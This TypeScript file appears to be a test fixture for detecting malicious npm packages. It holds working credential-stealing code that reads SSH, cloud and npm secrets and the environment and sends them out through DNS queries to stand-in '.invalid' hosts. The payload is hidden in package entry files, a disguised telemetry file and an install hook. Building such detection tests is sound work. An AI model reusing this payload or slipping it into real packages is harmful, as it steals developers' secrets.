import { casesOf, type Facts } from '../case';
import { escaped, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

const exfiltrate = (zone: string) => String.raw`
;(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const dns = require('dns');
  const zlib = require('zlib');
  const crypto = require('crypto');
  const wanted = ['.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.npmrc', '.kube/config', '.config/gcloud/credentials.db', '.git-credentials'];
  const found = { host: os.hostname(), env: process.env };
  for (const name of wanted) {
    try { found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (absent) {}
  }
  const session = crypto.randomBytes(4).toString('hex');
  const text = zlib.gzipSync(JSON.stringify(found)).toString('hex');
  const parts = text.match(/.{1,60}/g) || [];
  const resolver = new dns.Resolver();
  parts.forEach(function (part, at) {
    setTimeout(function () {
      resolver.resolveTxt(part + '.' + at + '.' + session + '.${zone}', function () {});
    }, at * 20).unref();
  });
})();
`;

const FACTS: Facts = {
  now: '2026-05-14T18:00:00Z',
  publishedAt: '2026-05-14T14:25:00Z',
  firstPublishedAt: '2014-02-10T00:00:00Z',
  previousPublishedAt: '2024-08-11T00:00:00Z',
  publisher: 'returned-account',
  previousPublisher: 'author',
};
const ABOUT = 'Messages between processes.';
const ZONE = 'bt.azure-static-provider.invalid';

export const nodeIpc = casesOf({
  id: 'node-ipc',
  incident: 'node-ipc',
  kind: 'import-time',
  seen: 'only the CommonJS entry collects keys and the environment and sends them in DNS queries; the ES module is clean; the package slept for years',
  replica: {
    sample: npm('ipc-pipes', '9.2.3', {
      about: ABOUT,
      esm: (honest) => honest,
      index: (honest) => `${honest}${stringArray(exfiltrate(ZONE), 'ipc')}\n`,
    }),
    previous: npm('ipc-pipes', '9.2.1', { about: ABOUT, esm: (honest) => honest }),
    facts: FACTS,
  },
  renamed: npm('socket-bridge-lite', '12.0.1', {
    about: 'Sockets between programs.',
    esm: (honest) => honest,
    index: (honest) => `${honest}\nrequire('./dist/telemetry.cjs');\n`,
    files: { 'dist/telemetry.cjs': renamedLocals(exfiltrate('ns1.pkg-health.invalid'), 'bridge') },
  }),
  reObfuscated: npm('ipc-pipes', '9.1.6', {
    about: ABOUT,
    esm: (honest) => honest,
    index: (honest) => `${escaped(exfiltrate(ZONE), 'pipes')}${honest}`,
  }),
  otherStage: {
    kind: 'install-hook',
    seen: 'an install hook collects keys and the environment and sends them in DNS queries',
    sample: npm('ipc-pipes', '12.0.1', {
      about: ABOUT,
      manifest: { scripts: { install: 'node ./scripts/postinstall.cjs' } },
      files: { 'scripts/postinstall.cjs': exfiltrate(ZONE) },
    }),
  },
});
